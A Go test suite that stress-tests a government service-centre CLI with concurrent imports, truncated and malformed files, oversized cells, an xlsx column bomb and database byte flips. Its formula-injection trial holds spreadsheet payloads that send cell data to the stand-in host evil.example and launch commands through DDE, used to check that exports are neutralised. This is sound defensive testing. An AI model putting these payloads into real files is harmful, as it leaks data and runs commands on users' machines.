//go:build datatrials

package cli

// The data trials run the program itself (GOVDESK_BIN, built by
// .ci/data-trials) in separate processes against damaged, hostile and
// concurrent input, and print what happened. Every trial also fails the
// test when data was lost, a damaged file was accepted or a message was
// not in Chinese.

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"fmt"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"govdesk/models"
)

// trialClock is the day the trials' demo centre is filled and used on.
const trialClock = "2026-11-26 09:00"

type result struct {
	code           int
	stdout, stderr string
	maxRSS         int64 // kilobytes
	took           time.Duration
}

func govdesk(t *testing.T, data string, args ...string) result {
	t.Helper()
	bin := os.Getenv("GOVDESK_BIN")
	if bin == "" {
		t.Skip("GOVDESK_BIN is not set: run .ci/data-trials")
	}
	cmd := exec.Command(bin, append([]string{"--data", data}, args...)...)
	cmd.Env = append(os.Environ(), "GOVDESK_CLOCK="+trialClock)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	start := time.Now()
	err := cmd.Run()
	r := result{stdout: out.String(), stderr: errb.String(), took: time.Since(start)}
	if ee, ok := err.(*exec.ExitError); ok {
		r.code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("running govdesk: %v", err)
	}
	if ru, ok := cmd.ProcessState.SysUsage().(*syscall.Rusage); ok {
		r.maxRSS = ru.Maxrss
	}
	englishCheck(r.stderr)
	return r
}

// englishWords are SQLite's, Go's and the libraries' words that must not
// reach a person.
var englishWords = regexp.MustCompile(`(?i)\b(database|locked|malformed|invalid|failed|unexpected|no such|not a valid|zip:|error|cannot|permission denied|EOF)\b`)

var technical = regexp.MustCompile(`（技术信息：.*）`)

var (
	summaryMu sync.Mutex
	summary   []string
	english   []string
)

func englishCheck(stderr string) {
	summaryMu.Lock()
	defer summaryMu.Unlock()
	for _, line := range strings.Split(stderr, "\n") {
		// what check prints for IT after the Chinese is marked as such
		if englishWords.MatchString(technical.ReplaceAllString(line, "")) {
			english = append(english, line)
		}
	}
}

func report(format string, a ...any) {
	summaryMu.Lock()
	defer summaryMu.Unlock()
	summary = append(summary, fmt.Sprintf(format, a...))
}

// demoFolder is a data folder holding a fresh copy of the demo centre.
func demoFolder(t *testing.T) string {
	t.Helper()
	demoOnce.Do(func() {
		dir, err := os.MkdirTemp("", "govdesk-trials-")
		if err != nil {
			t.Fatal(err)
		}
		demoSrc = dir
		if r := govdesk(t, dir, "demo"); r.code != 0 {
			t.Fatalf("demo: %s", r.stderr)
		}
	})
	dir := t.TempDir()
	b, err := os.ReadFile(filepath.Join(demoSrc, models.DatabaseFile))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, models.DatabaseFile), b, 0o644); err != nil {
		t.Fatal(err)
	}
	return dir
}

var (
	demoOnce sync.Once
	demoSrc  string
)

func exportTo(t *testing.T, data, kind, out string, extra ...string) {
	t.Helper()
	if r := govdesk(t, data, append([]string{"export", kind, "--out", out}, extra...)...); r.code != 0 {
		t.Fatalf("export %s: %s", kind, r.stderr)
	}
}

func readCSV(t *testing.T, path string) [][]string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(b), "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

func writeCSV(t *testing.T, path string, recs [][]string) {
	t.Helper()
	var b bytes.Buffer
	b.WriteString("\uFEFF")
	w := csv.NewWriter(&b)
	w.UseCRLF = true
	w.WriteAll(recs)
	if err := os.WriteFile(path, b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestDataTrials(t *testing.T) {
	t.Run("两个导入同时进行×10", trialConcurrentImports)
	t.Run("导入等待一个长时间的写入", trialWaitForLongWriter)
	t.Run("空文件夹同时填入演示数据×5", trialTwoDemos)
	t.Run("在Excel中修改各类导出再导入", trialEditedExports)
	t.Run("截断的文件", trialTruncatedFiles)
	t.Run("NUL与BOM后的无效字节", trialNULAndBOM)
	t.Run("50MB单元格", trialHugeCell)
	t.Run("xlsx列炸弹", trialColumnBomb)
	t.Run("路径中的#?%", trialURIPaths)
	t.Run("数据库字节翻转×40", trialByteFlips)
	t.Run("公式注入", trialFormulas)
	fmt.Println("\n==== 数据试验汇总 ====")
	for _, s := range summary {
		fmt.Println(s)
	}
	fmt.Printf("非中文的报错行：%d\n", len(english))
	for _, e := range english {
		fmt.Println("  " + e)
		t.Errorf("a message in English reached the user: %s", e)
	}
}

func trialConcurrentImports(t *testing.T) {
	demo := demoFolder(t)
	dir := t.TempDir()
	big := filepath.Join(dir, "打卡.csv")
	exportTo(t, demo, "punches", big)
	recs := readCSV(t, big)
	small := filepath.Join(dir, "人员.csv")
	exportTo(t, demo, "staff", small)
	windows := filepath.Join(dir, "窗口.csv")
	exportTo(t, demo, "windows", windows)
	ok, waited, failed := 0, 0, 0
	var slowest time.Duration
	for i := 0; i < 10; i++ {
		// a centre with its roster and no punches yet: the punch import
		// writes every row, and the roster import runs beside it
		data := filepath.Join(t.TempDir(), "中心")
		for _, f := range []struct{ kind, path string }{{"windows", windows}, {"staff", small}} {
			if r := govdesk(t, data, "import", f.kind, f.path); r.code != 0 {
				t.Fatalf("roster: %s", r.stderr)
			}
		}
		var wg sync.WaitGroup
		results := make([]result, 2)
		for j, f := range []string{big, small} {
			wg.Add(1)
			go func() {
				defer wg.Done()
				kind := map[string]string{big: "punches", small: "staff"}[f]
				results[j] = govdesk(t, data, "import", kind, f)
			}()
		}
		wg.Wait()
		for _, r := range results {
			if r.code == 0 {
				ok++
			} else {
				failed++
				t.Errorf("a concurrent import failed: %s", r.stderr)
			}
			if strings.Contains(r.stderr, "已等待") {
				waited++
			}
			slowest = max(slowest, r.took)
		}
	}
	report("两个导入同时进行×10（%d 行打卡 + 人员名册）：成功 %d/20，失败 %d，其中等待过另一写入者 %d 次，最慢 %.1f 秒",
		len(recs)-1, ok, failed, waited, slowest.Seconds())
}

// trialWaitForLongWriter has another program hold the write lock for 12
// seconds (longer than one busy timeout) while a command imports.
func trialWaitForLongWriter(t *testing.T) {
	data := demoFolder(t)
	db, err := sql.Open("sqlite3", filepath.Join(data, models.DatabaseFile))
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	conn, err := db.Conn(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := conn.ExecContext(t.Context(), "BEGIN IMMEDIATE"); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(data, models.WriterFile), []byte("命令行导入 punches 全年打卡.csv（进程 4242，操作员 张三，09:00:00 开始）"), 0o644)
	go func() {
		time.Sleep(12 * time.Second)
		os.Remove(filepath.Join(data, models.WriterFile))
		conn.ExecContext(context.Background(), "COMMIT")
	}()
	file := filepath.Join(t.TempDir(), "窗口.csv")
	os.WriteFile(file, []byte("窗口编号,窗口名称,派驻单位\r\nZ01,试验窗口,市政务服务中心\r\n"), 0o644)
	r := govdesk(t, data, "import", "windows", file)
	progress := strings.Count(r.stderr, "已等待")
	named := strings.Contains(r.stderr, "命令行导入 punches 全年打卡.csv")
	if r.code != 0 || progress == 0 || !named {
		t.Errorf("import beside a long writer: exit %d, stderr:\n%s", r.code, r.stderr)
	}
	first, _, _ := strings.Cut(r.stderr, "\n")
	report("另一个程序写入 12 秒时导入：%s，等待 %.0f 秒，进度行 %d 条，例如“%s”", map[bool]string{true: "成功", false: "失败"}[r.code == 0],
		r.took.Seconds(), progress, first)
}

func trialTwoDemos(t *testing.T) {
	filled, refused, other, clean := 0, 0, 0, 0
	for i := 0; i < 5; i++ {
		data := filepath.Join(t.TempDir(), "空文件夹")
		var wg sync.WaitGroup
		results := make([]result, 2)
		for j := range results {
			wg.Add(1)
			go func() { defer wg.Done(); results[j] = govdesk(t, data, "demo") }()
		}
		wg.Wait()
		for _, r := range results {
			switch {
			case r.code == 0:
				filled++
			case strings.Contains(r.stderr, "只能填入空数据库"):
				refused++
			default:
				other++
				t.Errorf("a demo run failed: %s", r.stderr)
			}
		}
		if r := govdesk(t, data, "check"); r.code == 0 {
			clean++
		}
	}
	if filled != 5 || refused != 5 {
		t.Errorf("filled %d, refused %d; want one of each per folder", filled, refused)
	}
	report("空文件夹同时运行两次 demo ×5：填入 %d 次，另一次说明“已有数据” %d 次，其他失败 %d 次，check 完好 %d/5", filled, refused, other, clean)
}

func trialEditedExports(t *testing.T) {
	kinds := []struct{ kind, column, to string }{
		{"commendations", "说明", "。"}, {"violations", "情形", "。"}, {"complaints", "内容", "。"},
		{"ratings", "整改状态", "整改中"}, {"inspections", "说明", "。"}, {"leaves", "事由", "。"}, {"uniforms", "数量", "3"},
	}
	updated, duplicated := 0, 0
	for _, k := range kinds {
		data := demoFolder(t)
		path := filepath.Join(t.TempDir(), k.kind+".csv")
		exportTo(t, data, k.kind, path)
		recs := readCSV(t, path)
		col := -1
		for j, h := range recs[0] {
			if h == k.column {
				col = j
			}
		}
		at := 1
		if k.kind == "ratings" {
			for i, r := range recs {
				if r[col] == "待整改" {
					at = i
					break
				}
			}
		}
		if k.to == "。" {
			recs[at][col] += k.to
		} else {
			recs[at][col] = k.to
		}
		writeCSV(t, path, recs)
		r := govdesk(t, data, "import", k.kind, path)
		switch {
		case r.code == 0 && strings.Contains(r.stdout, "新增 0 条，更新 1 条"):
			updated++
		case strings.Contains(r.stdout, "新增 1 条"):
			duplicated++
			t.Errorf("%s: the edited row was added as a new record: %s", k.kind, r.stdout)
		default:
			t.Errorf("%s: %s %s", k.kind, r.stdout, r.stderr)
		}
	}
	report("导出后在 Excel 中修改再导入（%d 类有编号的记录）：更新原记录 %d 类，重复新增 %d 类", len(kinds), updated, duplicated)
}

var fileKinds = []string{"windows", "staff", "cases", "punches", "leaves", "inspections", "violations", "complaints", "ratings", "commendations", "uniforms"}

func trialTruncatedFiles(t *testing.T) {
	refused, acceptedUnchanged, acceptedChanged := 0, 0, 0
	for _, ext := range []string{".csv", ".xlsx"} {
		for _, kind := range fileKinds {
			data := demoFolder(t)
			path := filepath.Join(t.TempDir(), kind+ext)
			exportTo(t, data, kind, path)
			b, _ := os.ReadFile(path)
			os.WriteFile(path, b[:len(b)/2], 0o644)
			r := govdesk(t, data, "import", kind, path)
			switch {
			case r.code != 0:
				refused++
			case strings.Contains(r.stdout, "新增 0 条，更新 0 条"):
				acceptedUnchanged++ // cut at a line break: every row left is whole and already stored
			default:
				acceptedChanged++
				t.Errorf("%s%s cut in half changed data: %s", kind, ext, r.stdout)
			}
		}
	}
	report("截去后一半的导出文件（%d 类 × CSV/xlsx = %d 个）：拒绝 %d 个，接受且未改变数据 %d 个，接受并改变了数据 %d 个",
		len(fileKinds), 2*len(fileKinds), refused, acceptedUnchanged, acceptedChanged)
}

func trialNULAndBOM(t *testing.T) {
	data := demoFolder(t)
	files := map[string]string{
		"名称含NUL.csv":     "窗口编号,窗口名称,派驻单位\r\nZ01,王\x00窗口,市民政局\r\n",
		"BOM后无效字节.csv":   "\uFEFF窗口编号,窗口名称,派驻单位\r\nZ01,王\xff\xfe,市民政局\r\n",
		"UTF8中夹无效字节.csv": "窗口编号,窗口名称,派驻单位\r\nZ01,王堃的窗口\xc3,市民政局\r\nZ02,综合窗口,市民政局\r\n",
		"含控制字符.csv":      "窗口编号,窗口名称,派驻单位\r\nZ01,综合\x1b窗口,市民政局\r\n",
	}
	refused := 0
	for name, content := range files {
		path := filepath.Join(t.TempDir(), name)
		os.WriteFile(path, []byte(content), 0o644)
		if r := govdesk(t, data, "import", "windows", path); r.code != 0 {
			refused++
		} else {
			t.Errorf("%s was accepted: %s", name, r.stdout)
		}
	}
	report("NUL、控制字符、BOM 后的无效字节、UTF-8 中的无效字节（%d 个文件）：拒绝 %d 个", len(files), refused)
}

func trialHugeCell(t *testing.T) {
	data := demoFolder(t)
	path := filepath.Join(t.TempDir(), "窗口.csv")
	f, _ := os.Create(path)
	f.WriteString("窗口编号,窗口名称,派驻单位\r\nZ01,")
	f.WriteString(strings.Repeat("窗", 50_000_000/3))
	f.WriteString(strings.Repeat("x", 50_000_000%3+2))
	f.WriteString(",市民政局\r\n")
	f.Close()
	fi, _ := os.Stat(path)
	before, _ := os.Stat(filepath.Join(data, models.DatabaseFile))
	r := govdesk(t, data, "import", "windows", path)
	after, _ := os.Stat(filepath.Join(data, models.DatabaseFile))
	if r.code == 0 {
		t.Errorf("a 50 MB 窗口名称 was accepted")
	}
	report("50 MB 的窗口名称（文件 %.0f MB）：%s，用时 %.1f 秒，内存峰值 %d MB，数据库 %d → %d KB",
		float64(fi.Size())/(1<<20), verdict(r), r.took.Seconds(), r.maxRSS/1024, before.Size()/1024, after.Size()/1024)
}

func verdict(r result) string {
	if r.code == 0 {
		return "被接受"
	}
	lines := strings.Split(strings.TrimSpace(r.stderr), "\n")
	line := lines[len(lines)-1]
	if len([]rune(line)) > 90 {
		line = string([]rune(line)[:90]) + "…"
	}
	return "拒绝（" + line + "）"
}

func trialColumnBomb(t *testing.T) {
	data := demoFolder(t)
	x := excelize.NewFile()
	sw, _ := x.NewStreamWriter("Sheet1")
	sw.SetRow("A1", []any{"窗口编号", "窗口名称", "派驻单位"})
	for r := 2; r <= 20000; r++ {
		sw.SetRow(fmt.Sprintf("XFD%d", r), []any{"x"})
	}
	sw.Flush()
	path := filepath.Join(t.TempDir(), "列炸弹.xlsx")
	x.SaveAs(path)
	x.Close()
	fi, _ := os.Stat(path)
	r := govdesk(t, data, "import", "windows", path)
	if r.code == 0 {
		t.Errorf("the column bomb was accepted")
	}
	report("每行在 XFD 列有一个单元格的 xlsx（%d KB，2 万行）：%s，用时 %.1f 秒，内存峰值 %d MB",
		fi.Size()/1024, verdict(r), r.took.Seconds(), r.maxRSS/1024)
}

func trialURIPaths(t *testing.T) {
	root := t.TempDir()
	good := 0
	names := []string{"中心#1", "中心?2", "中心%31", "中心#?%"}
	for _, name := range names {
		data := filepath.Join(root, name)
		ok := govdesk(t, data, "demo").code == 0 && govdesk(t, data, "check").code == 0
		bk := filepath.Join(root, name+"-bk#1.db")
		ok = ok && govdesk(t, data, "backup", "--out", bk).code == 0
		restored := filepath.Join(root, name+"-恢复")
		ok = ok && govdesk(t, restored, "restore", bk).code == 0
		r := govdesk(t, restored, "check")
		ok = ok && r.code == 0
		if _, err := os.Stat(filepath.Join(data, models.DatabaseFile)); err != nil {
			ok = false
		}
		if ok {
			good++
		} else {
			t.Errorf("%s: %s", name, r.stderr)
		}
	}
	var stray []string
	entries, _ := os.ReadDir(root)
	for _, e := range entries {
		n := e.Name()
		if !strings.HasPrefix(n, "中心") || (!e.IsDir() && !strings.HasSuffix(n, "-bk#1.db")) {
			stray = append(stray, n)
		}
		if e.IsDir() && !strings.HasSuffix(n, "-恢复") && !contains(names, n) {
			stray = append(stray, n)
		}
	}
	if len(stray) > 0 {
		t.Errorf("files outside the data folders: %v", stray)
	}
	report("数据文件夹与备份名含 # ? %%（%d 个）：填入、检查、备份到 bk#1.db、从它恢复都正确 %d 个，写到别处的文件 %d 个", len(names), good, len(stray))
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func trialByteFlips(t *testing.T) {
	rng := rand.New(rand.NewSource(14))
	small := filepath.Join(t.TempDir(), "窗口.csv")
	os.WriteFile(small, []byte("窗口编号,窗口名称,派驻单位\r\nZ99,试验窗口,市政务服务中心\r\n"), 0o644)
	flagged, importedWhenFlagged, importedClean, openFailed, logFlagged := 0, 0, 0, 0, 0
	for i := 0; i < 40; i++ {
		data := demoFolder(t)
		path := filepath.Join(data, models.DatabaseFile)
		b, _ := os.ReadFile(path)
		for k := 0; k < 1; k++ { // one byte, as a failing sector might
			at := 4096 + rng.Intn(len(b)-4096)
			b[at] ^= byte(1 + rng.Intn(255))
		}
		os.WriteFile(path, b, 0o644)
		check := govdesk(t, data, "check")
		r := govdesk(t, data, "import", "windows", small)
		// a flip inside an audit entry's text leaves the file sound but
		// breaks the log's chain: check names the entry, work goes on
		chainOnly := check.code != 0 && strings.Contains(check.stdout+check.stderr, "操作日志第") &&
			!strings.Contains(check.stdout+check.stderr, "数据库文件损坏") && !strings.Contains(check.stdout+check.stderr, "引用的")
		switch {
		case chainOnly:
			logFlagged++
			if r.code != 0 {
				t.Errorf("flip %d: only the audit log's chain broke, yet the import was refused: %s", i, r.stderr)
			}
		case check.code != 0 && r.code == 0:
			flagged++
			importedWhenFlagged++
			t.Errorf("flip %d: check found damage but the import was accepted", i)
		case check.code != 0:
			flagged++
			if strings.Contains(r.stderr, "无法打开") || strings.Contains(r.stderr, "已损坏") {
				openFailed++
			}
		case r.code == 0:
			importedClean++
		}
	}
	report("数据库随机字节翻转 ×40：check 发现损坏 %d 次，其中仍被导入 %d 次（拒绝时说明“已损坏” %d 次）；只改动了操作日志的内容、check 指出被改的那一条 %d 次（文件完好，导入照常）；check 未发现损坏而导入成功 %d 次",
		flagged, importedWhenFlagged, openFailed, logFlagged, importedClean)
}

func trialFormulas(t *testing.T) {
	data := demoFolder(t)
	prefixes := []string{"=", "+", "-", "@", "\t=", "\r="}
	bodies := []string{`HYPERLINK("http://evil.example/?q="&A1,"详情")`, `cmd|'/C calc'!A0`, `SUM(1+1)*cmd|'/C calc'!A0`,
		`1+1`, `IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")`, `2+5+cmd|' /C notepad'!'A1'`,
		`DDE("cmd";"/C calc";"!A0")A0`, `WEBSERVICE("http://evil.example")`, `A1*2`, `'=1+1`, `"=1+1"`, `-1+1`}
	recs := [][]string{{"窗口编号", "窗口名称", "派驻单位", "区域"}}
	n := 0
	for _, p := range prefixes {
		for _, b := range bodies {
			n++
			recs = append(recs, []string{fmt.Sprintf("F%02d", n), p + b, "市政务服务中心", p + "A1"})
		}
	}
	in := filepath.Join(t.TempDir(), "公式.csv")
	writeCSV(t, in, recs)
	if r := govdesk(t, data, "import", "windows", in); r.code != 0 {
		t.Fatalf("import of formula names: %s", r.stderr)
	}
	dangerous, exports := 0, 0
	for _, kind := range []string{"windows", "staff", "cases", "punches", "leaves", "inspections", "violations", "complaints", "ratings", "commendations", "uniforms", "audit"} {
		out := filepath.Join(t.TempDir(), kind+".csv")
		exportTo(t, data, kind, out, "--month", "2026-11")
		exports++
		for _, r := range readCSV(t, out)[1:] {
			for _, c := range r {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !regexp.MustCompile(`^[+-]?[0-9]+(\.[0-9]+)?$`).MatchString(c) && c != "-" {
					dangerous++
				}
			}
		}
	}
	back := filepath.Join(t.TempDir(), "窗口.csv")
	exportTo(t, data, "windows", back)
	r := govdesk(t, data, "import", "windows", back)
	if dangerous > 0 || r.code != 0 || !strings.Contains(r.stdout, "新增 0 条，更新 0 条") {
		t.Errorf("formulas: %d dangerous cells; re-import %s %s", dangerous, r.stdout, r.stderr)
	}
	report("公式注入（%d 个载荷写入窗口名称与区域）：%d 类 CSV 导出中以 = + - @ 制表符 回车 开头的单元格 %d 个；导出再导入：%s",
		n, exports, dangerous, strings.TrimSpace(r.stdout))
}
